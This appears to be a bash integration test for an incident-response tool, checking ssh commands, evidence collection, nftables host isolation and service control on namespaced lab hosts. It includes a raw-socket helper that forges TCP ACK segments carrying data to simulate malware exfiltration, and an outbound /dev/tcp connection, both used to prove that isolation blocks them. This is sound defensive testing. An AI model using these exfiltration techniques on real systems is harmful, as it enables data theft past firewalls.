#!/usr/bin/env bash
# timeout: 600
# The plugins that reach hosts, on real hosts: the lab (tests/lab/lab)
# gives each host its own network and mount namespaces, a real sshd, real
# nftables and real services. The engine runs on the lab's engine side and
# reaches them over real ssh; every check is made from outside: on the
# host (its firewall, its services), from another host, in the receivers.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lab.sh"
lab_up lab - web1=http,tcp web2=http mail1=smtp hooks=webhook,tcp bare=nonft
# raw_ack FROM SPORT TO PORT: FROM sends, as root with a raw socket, a TCP
# segment with ACK and a payload (no SYN) from SPORT to TO:PORT, as malware
# with root would to get data out; true if TO received it (a raw socket
# there sees every TCP segment that reaches it).
raw_ack() {
    local mark="x$RANDOM$RANDOM"
    on "$3" /usr/bin/python3 -c '
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP); s.settimeout(0.2)
end = time.time() + 3; open("/srv/raw.ready", "w").close()
while time.time() < end:
    try: d = s.recv(65535)
    except socket.timeout: continue
    if sys.argv[1].encode() in d: open("/srv/raw.got", "w").close(); break
' "$mark" &
    local rx=$!
    wait_for test -e "$LAB/hosts/$3/srv/raw.ready"
    on "$1" /usr/bin/python3 -c '
import socket, struct, sys
src, dst = socket.gethostbyname(socket.gethostname()), socket.gethostbyname(sys.argv[2])
sport, dport, data = int(sys.argv[1]), int(sys.argv[3]), sys.argv[4].encode()
def csum(b):
    if len(b) % 2: b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
    return ~t & 0xffff
hdr = struct.pack("!HHIIBBHHH", sport, dport, 1000, 2000, 5 << 4, 0x18, 65535, 0, 0)
pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr) + len(data))
hdr = hdr[:16] + struct.pack("!H", csum(pseudo + hdr + data)) + hdr[18:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
for _ in range(3):
    try: s.sendto(hdr + data, (dst, 0))
    except PermissionError: pass
' "$2" "$3" "$4" "$mark"
    wait "$rx"
    local got=1
    [ -e "$LAB/hosts/$3/srv/raw.got" ] && got=0
    rm -f "$LAB/hosts/$3/srv/raw.ready" "$LAB/hosts/$3/srv/raw.got"
    return $got
}
end_field() { jqs "$(journal)" "[.[] | select(.type == \"step_end\" and .step == \"$1\")] | last | .$2"; }

cat >"$WORK/hosts.lua" <<'LUA'
runbook { id = "hosts", title = "Lab hosts", timeout = "2m",
  params = {
    inventory = { type = "string", required = true, doc = "the lab's inventory" },
    known_hosts = { type = "string", required = true, doc = "the lab's known_hosts" },
    group = { type = "string", default = "lab", doc = "hosts" },
    only = { type = "list", default = {}, doc = "these hosts of the group" },
    do_ = { type = "string", required = true, doc = "what to do" },
    allow = { type = "list", default = {}, doc = "firewall allow" },
    allow_from = { type = "list", default = {}, doc = "firewall allow_from" },
    nft = { type = "string", default = "nft", doc = "nft on the host" },
    user = { type = "string", doc = "ssh user" },
    sudo = { type = "boolean", default = false, doc = "sudo" },
    alive = { type = "number", default = 5, doc = "ServerAliveInterval" },
    command = { type = "list", default = { "true" }, doc = "for ssh" },
    path = { type = "string", default = "/etc/hostname", doc = "for evidence.file" },
    unit = { type = "string", default = "nginx.service", doc = "for service" },
    timeout = { type = "string", default = "30s", doc = "the step's timeout" },
    force = { type = "boolean", default = true, doc = "release whichever run isolated" },
  },
}
local all = inventory(param.inventory):hosts(param.group)
local hosts = all
if #param.only > 0 then
  hosts = {}
  for _, h in ipairs(all) do
    for _, n in ipairs(param.only) do if h.name == n then hosts[#hosts + 1] = h end end
  end
end
local o = { known_hosts = param.known_hosts, user = param.user, sudo = param.sudo,
            alive_interval = param.alive }
local function with(t) local r = {} for k, v in pairs(o) do r[k] = v end for k, v in pairs(t) do r[k] = v end return r end
local actions = {
  ssh = ssh.run(with { command = param.command }),
  isolate = firewall.isolate(with { allow = param.allow, allow_from = param.allow_from, nft = param.nft }),
  release = firewall.release(with { nft = param.nft, force = param.force }),
  file = evidence.file(with { path = param.path }),
  command = evidence.command(with { command = param.command, name = "out.txt" }),
  stop = service.stop(with { unit = param.unit }),
  start = service.start(with { unit = param.unit }),
  restart = service.restart(with { unit = param.unit }),
  active = service.is_active(with { unit = param.unit }),
}
phase "act"
step "act" { each = hosts, concurrency = 8, timeout = param.timeout, action = actions[param.do_] }
LUA
# go DO [-p k=v ...]: the runbook above against the lab
go() {
    local what=$1
    shift
    lbh run --plain "$WORK/hosts.lua" -p inventory="$LAB/inventory.ini" \
        -p known_hosts="$LAB_KNOWN_HOSTS" -p do_="$what" "$@"
}

# --- ssh and evidence ---------------------------------------------------------

t ssh_runs_commands_on_each_host_over_real_ssh
assert_exit 0 go ssh -p only=web1,web2,mail1 -p command=hostname
assert_jq "$(journal)" '[.[] | select(.type == "step_end")] | map(.result.stdout | rtrimstr("\n")) | sort | join(",")' \
    "mail1,web1,web2"
argv=$(jqs "$(journal)" '[.[] | select(.type == "exec_start")][0].argv | join(" ")')
assert_contains "$argv" "UserKnownHostsFile=$LAB_KNOWN_HOSTS"
assert_contains "$argv" "ServerAliveInterval=5"
assert_contains "$argv" "-i $LAB_KEY -o IdentitiesOnly=yes"
# as the shipped inventory's automation account, with sudo -n
assert_exit 0 go ssh -p only=web1 -p user=ir-automation -p sudo=true -p command=id,-un
assert_eq "root" "$(end_field act result.stdout | tr -d '\n')" "sudo -n over ssh as ir-automation"

t ssh_refuses_a_host_key_that_changed
cp "$LAB_KNOWN_HOSTS" "$WORK/kh.bad"
sed -i 's/^web2,\([^ ]*\) ssh-ed25519 .*/web2,\1 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl/' "$WORK/kh.bad"
assert_exit 1 lbh run --plain "$WORK/hosts.lua" -p inventory="$LAB/inventory.ini" \
    -p known_hosts="$WORK/kh.bad" -p do_=ssh -p only=web2 -p command=touch,/srv/touched
assert_contains "$(cat "$(last_run_dir)"/out/act.i1.1.1.stderr)" "Host key verification failed"
assert_eq failed "$(end_field act status)" "ssh said it never connected: failed, not in doubt"
[ ! -e "$LAB/hosts/web2/srv/touched" ] || fail "the command ran on a host whose key changed"

t evidence_file_and_command_over_ssh_byte_for_byte
on web1 bash -c 'printf "GET /wp-login.php 200\nPOST /xmlrpc.php 500\n\x00\xff raw\n" >/var/log/access.log'
assert_exit 0 go file -p only=web1 -p path=/var/log/access.log
dir=$(last_run_dir)
f=$(jqs "$(journal)" '[.[] | select(.type == "evidence")][0].path')
cmp -s "$dir/$f" "$LAB/hosts/web1/log/access.log" || fail "evidence is not the host's file byte for byte"
assert_eq "$(sha256sum "$LAB/hosts/web1/log/access.log" | cut -d' ' -f1)" \
    "$(jqs "$(journal)" '[.[] | select(.type == "evidence")][0].sha256')" "sha256 in the journal"
assert_eq 400 "$(stat -c %a "$dir/$f")" "evidence is read-only"
assert_jq "$(journal)" '[.[] | select(.type == "evidence")][0].complete' true
assert_exit 0 go command -p only=web1 -p command=ss,-tn
f=$(jqs "$(journal)" '[.[] | select(.type == "evidence")][0].path')
assert_contains "$(cat "$(last_run_dir)/$f")" "$LAB_ENGINE_ADDR" "the host's own ss saw the engine's connection"
assert_exit 1 go file -p only=web1 -p path=/var/log/no-such.log
assert_jq "$(journal)" '[.[] | select(.type == "evidence")][0].complete' false
# collecting only reads: cut off by its timeout it is timed out, not in doubt
assert_exit 1 go command -p only=web1 -p command=sleep,30 -p timeout=1s
assert_eq timed_out "$(end_field act status)"

# --- isolation ------------------------------------------------------------------

ENGINE_ONLY="$LAB_ENGINE_ADDR/32"

t first_isolation_of_a_fresh_host_does_not_hang
reach hooks web1 80 || fail "web1:80 was not reachable before"
isolated web1 && fail "web1 had a table before the test"
assert_exit 0 go isolate -p only=web1 -p allow_from="$ENGINE_ONLY" -p timeout=30s
assert_eq ok "$(end_field act status)" "not timed out, not failed"
ms=$(end_field act duration_ms)
[ "${ms%.*}" -lt 15000 ] || fail "isolation took ${ms} ms of its 30 s: it hung on its own connection"
isolated web1 || fail "web1 has no isolation table"
reach hooks web1 80 && fail "web1:80 still reachable from another host"
reach hooks web1 22 && fail "web1:22 reachable from a host not in allow_from"
assert_exit 0 go ssh -p only=web1 -p command=true   # the engine still gets in

t a_runs_undo_does_not_lift_another_runs_isolation
# Two incidents, one host: run A isolates web1, then run B does. The undo
# of A must leave B's isolation; B's undo lifts it; A's undo then finds
# nothing to lift.
assert_exit 0 go isolate -p only=web1 -p allow_from="$ENGINE_ONLY"
A=$(jqs "$(journal)" '.[0].run_id')
assert_contains "$(on web1 nft list table inet bulkhead_isolation)" "comment \"bulkhead run $A step act\"" "A's table"
assert_exit 0 go isolate -p only=web1 -p allow_from="$ENGINE_ONLY"
B=$(jqs "$(journal)" '.[0].run_id')
assert_contains "$OUT" "web1 was isolated by run $A: this run's rules replace them" "B says it takes over"
assert_eq "$A" "$(end_field act result.taken_over)" "B's result"
assert_exit 1 lbh undo "$A" --plain
assert_contains "$OUT$ERR" "web1 was isolated again since, by run $B: its isolation is that run's and stays" "A's undo"
isolated web1 || fail "A's undo lifted B's isolation"
reach hooks web1 80 && fail "web1:80 reachable after A's undo"
# a release run of its own (not the run that isolated) leaves it too, unless forced
assert_exit 1 go release -p only=web1 -p force=false
assert_contains "$OUT" "by run $B" "release of another run's table"
isolated web1 || fail "an unforced release lifted another run's isolation"
assert_exit 0 lbh undo "$B" --plain
isolated web1 && fail "B's undo did not lift B's isolation"
reach hooks web1 80 || fail "web1:80 not reachable after B's undo"
assert_exit 0 lbh undo "$A" --plain   # nothing there any more: nothing to lift, ok
assert_eq true "$(jqs "$(journal)" '[.[] | select(.type == "undo_end")] | last | .result.absent')" "A's second undo found no table"

t release_then_isolate_again_then_reisolate
assert_exit 0 go release -p only=web1
isolated web1 && fail "the table is still there after release"
reach hooks web1 80 || fail "web1:80 not reachable after release"
assert_exit 0 go isolate -p only=web1 -p allow_from="$ENGINE_ONLY" -p timeout=30s
assert_eq ok "$(end_field act status)" "isolation after a release"
reach hooks web1 80 && fail "web1:80 reachable after the second isolation"
assert_exit 0 go isolate -p only=web1 -p allow_from="$ENGINE_ONLY" -p timeout=30s
assert_eq ok "$(end_field act status)" "re-isolation of an isolated host"
assert_eq 1 "$(on web1 nft list tables | grep -c bulkhead_isolation)" "one table, replaced"
assert_exit 0 go release -p only=web1
reach hooks web1 80 || fail "web1:80 not reachable after the last release"

t isolation_refused_when_the_engine_would_be_cut_off
assert_exit 1 go isolate -p only=web2 -p allow_from=10.20.0.0/24
assert_eq failed "$(end_field act status)" "refused before acting: failed, not in doubt"
msg=$(end_field act error.message)
assert_contains "$msg" "sees the engine at $LAB_ENGINE_ADDR"
assert_contains "$msg" "10.20.0.0/24"
isolated web2 && fail "a refused isolation changed the host"
reach hooks web2 80 || fail "web2 was cut off by a refused isolation"
assert_exit 0 go isolate -p only=web2 -p allow=ssh -p timeout=30s   # ssh kept from anywhere
isolated web2 || fail "allow = ssh keeps the engine: should isolate"
assert_exit 0 go release -p only=web2

t isolation_keeps_an_open_smtp_session_and_cuts_the_rest
# a mail client on hooks opens a session to mail1 before the isolation
# and sends through it after; an outbound connection of mail1 opened
# before the isolation is cut
on hooks /usr/bin/python3 -c '
import smtplib, os, time
s = smtplib.SMTP("mail1", 25, timeout=20); s.ehlo("hooks")
open("/srv/smtp.open", "w").close()
while not os.path.exists("/srv/smtp.go"): time.sleep(0.05)
s.sendmail("partner@hooks", ["ir@mail1"], "Subject: during isolation\r\n\r\nstill here\r\n")
s.quit(); open("/srv/smtp.sent", "w").close()
' >"$WORK/smtp.client" 2>&1 &
BG+=($!)
wait_for test -e "$LAB/hosts/hooks/srv/smtp.open" || fail "the SMTP client did not connect"
on mail1 bash -c 'exec 3<>/dev/tcp/hooks/5432; head -n1 <&3 >/srv/shell.banner; sleep 30 <&3 >&3' &
BG+=($!)
wait_for test -s "$LAB/hosts/mail1/srv/shell.banner" || fail "the outbound connection did not open"
raw_ack mail1 25 hooks 9999 || fail "the raw-packet check does not see a segment even before isolation"
assert_exit 0 go isolate -p only=mail1 -p allow=smtp -p allow_from="$ENGINE_ONLY" -p timeout=30s
touch "$LAB/hosts/hooks/srv/smtp.go"
wait_for test -e "$LAB/hosts/hooks/srv/smtp.sent" || fail "the open SMTP session died: $(cat "$WORK/smtp.client")"
assert_contains "$(cat "$LAB"/hosts/mail1/srv/mail/*.eml 2>/dev/null)" "still here" "the mail arrived in mail1's sink"
reach hooks mail1 25 || fail "a new SMTP connection to mail1 is refused while isolated"
reach mail1 hooks 5432 && fail "mail1 can still open connections out"
raw_ack mail1 25 hooks 9999 && fail "an isolated host got a raw ACK segment out from its allowed port 25"
# the connection opened before: what mail1 writes now does not arrive
on mail1 bash -c 'ss -tn | grep -q ":5432"' || fail "the old outbound connection is gone from mail1's view"
assert_exit 0 go release -p only=mail1
reach mail1 hooks 5432 || fail "mail1 cannot connect out after release"

t host_without_nft_is_refused_and_left_alone
assert_exit 1 go isolate -p only=bare -p allow_from="$ENGINE_ONLY"
assert_eq failed "$(end_field act status)" "no nft: failed, nothing acted"
assert_contains "$(end_field act error.message)" "cannot run nft on bare"
reach hooks bare 22 || fail "bare was cut off"

# --- in doubt ---------------------------------------------------------------------

# An nft that waits before it acts, so the test can take the host away
# while the isolation is under way (the isolation still happens on the host).
on web2 bash -c 'printf "#!/bin/sh\ncase \"\$1\" in -f) touch /srv/nft.began; sleep 2 ;; esac\nexec /usr/sbin/nft \"\$@\"\n" >/srv/slow-nft; chmod +x /srv/slow-nft'

t connection_lost_mid_isolation_is_in_doubt_and_undo_releases
lbh run --plain "$WORK/hosts.lua" -p inventory="$LAB/inventory.ini" -p known_hosts="$LAB_KNOWN_HOSTS" \
    -p do_=isolate -p only=web2 -p allow_from="$ENGINE_ONLY" -p nft=/srv/slow-nft -p alive=1 \
    >"$WORK/doubt.out" 2>&1 &
pid=$!
wait_for test -e "$LAB/hosts/web2/srv/nft.began" || fail "the isolation never reached nft"
"$LABCTL" unplug "$LAB" web2
wait "$pid"; rc=$?
"$LABCTL" plug "$LAB" web2
assert_eq 1 "$rc" "the run fails"
assert_eq in_doubt "$(end_field act status)" "cut off mid-isolation: in doubt"
assert_contains "$(end_field act doubt)" "exited 255"
assert_eq "web2 may still be isolated" "$(end_field act may_remain)"
assert_contains "$(cat "$WORK/doubt.out")" "web2 may still be isolated"
wait_for isolated web2 || fail "the host was not isolated after all (the test needs it to be)"
run=$(basename "$(last_run_dir)")
assert_exit 0 lbh runs
assert_contains "$OUT" "in doubt"
assert_exit 0 lbh show "$run"
assert_contains "$OUT" "web2 may still be isolated"
assert_exit 0 lbh undo "$run" --plain
assert_not_contains "$OUT" "nothing to undo"
isolated web2 && fail "undo did not release the host that was in doubt"
reach hooks web2 80 || fail "web2 not reachable after the undo"
assert_jq "$(journal)" '[.[] | select(.type == "undo_end")] | map(.status) | join(",")' "ok"

t ssh_session_killed_mid_command_is_in_doubt
lbh run --plain "$WORK/hosts.lua" -p inventory="$LAB/inventory.ini" -p known_hosts="$LAB_KNOWN_HOSTS" \
    -p do_=ssh -p only=web1 -p command=sh,-c,'touch /srv/began; sleep 20' >/dev/null 2>&1 &
pid=$!
wait_for test -e "$LAB/hosts/web1/srv/began" || fail "the command did not start"
on web1 pkill -f 'sshd: root@notty'
wait "$pid"
assert_eq in_doubt "$(end_field act status)"
assert_contains "$(end_field act doubt)" "exited 255"
assert_eq "web1 may have acted: what step 'act' does may remain" "$(end_field act may_remain)"

t host_powered_off_mid_step_is_in_doubt
"$LABCTL" up "$WORK/lab2" gone=http >/dev/null 2>&1 || fail "a second lab for the power-off did not come up"
lbh2() { "$LABCTL" run "$WORK/lab2" "$BULKHEAD" --state-dir "$STATE" "$@"; }
lbh2 run --plain "$WORK/hosts.lua" -p inventory="$WORK/lab2/inventory.ini" \
    -p known_hosts="$WORK/lab2/engine/known_hosts" -p do_=ssh -p alive=1 \
    -p command=sh,-c,'touch /srv/began; sleep 20' >/dev/null 2>&1 &
pid=$!
wait_for test -e "$WORK/lab2/hosts/gone/srv/began" || fail "the command did not start"
"$LABCTL" off "$WORK/lab2" gone
wait "$pid"
assert_eq in_doubt "$(end_field act status)" "the host went down mid-step"
"$LABCTL" down "$WORK/lab2"

# --- services and checks from the engine side ---------------------------------

t service_stop_and_start_on_the_host_checked_from_outside
assert_exit 0 go stop -p only=web1
reach hooks web1 80 && fail "nginx.service still answers after service.stop"
assert_eq inactive "$(on web1 systemctl is-active nginx.service)"
assert_exit 0 go start -p only=web1
reach hooks web1 80 || fail "nginx.service does not answer after service.start"
assert_exit 1 go stop -p only=web1 -p unit=nosuch.service
assert_contains "$(end_field act error.message)" "exited with code 5"
assert_eq failed "$(end_field act status)" "systemctl answered: failed, not in doubt"
pid_before=$(on web2 cat /run/bhlab/nginx.service.pid)
assert_exit 0 go restart -p only=web2
assert_ne "$pid_before" "$(on web2 cat /run/bhlab/nginx.service.pid)" "restart started a new process"
reach hooks web2 80 || fail "web2's web service is down after restart"
assert_exit 0 go active -p only=web1,web2
on web2 systemctl stop nginx.service
assert_exit 1 go active -p only=web1,web2
assert_contains "$(jqs "$(journal)" '[.[] | select(.type == "step_end" and .status != "ok")][0].error.message')" \
    "nginx.service is inactive on web2"
on web2 systemctl start nginx.service

cat >"$WORK/checks.lua" <<'LUA'
runbook { id = "checks", title = "Checks from the engine", timeout = "1m",
  params = { inventory = { type = "string", required = true, doc = "inventory" } } }
local web = inventory(param.inventory):hosts("lab")
phase "check"
step "records-port" { action = tcp.check { host = "web1", port = 5432 } }
step "closed-port" { action = tcp.check { host = "web1", port = 9, expect = "closed", timeout = "2s" } }
step "health" {
  run = function(ctx)
    local r = ctx.http { url = "http://web1/healthz", timeout = "5s" }
    return { status = r.status, body = r.body }
  end,
}
LUA
t tcp_and_http_checks_from_the_engine_side
assert_exit 0 lbh run --plain "$WORK/checks.lua" -p inventory="$LAB/inventory.ini"
assert_eq 200 "$(end_of health result.status)"
assert_eq "ok" "$(end_of health result.body | tr -d '\n')"
assert_jq "$(journal)" '[.[] | select(.type == "step_end")] | map(.status) | unique | join(",")' "ok"
on web1 systemctl stop records.service
assert_exit 1 lbh run --plain "$WORK/checks.lua" -p inventory="$LAB/inventory.ini"
assert_contains "$(end_of records-port error.message)" "web1:5432 is closed"
on web1 systemctl start records.service
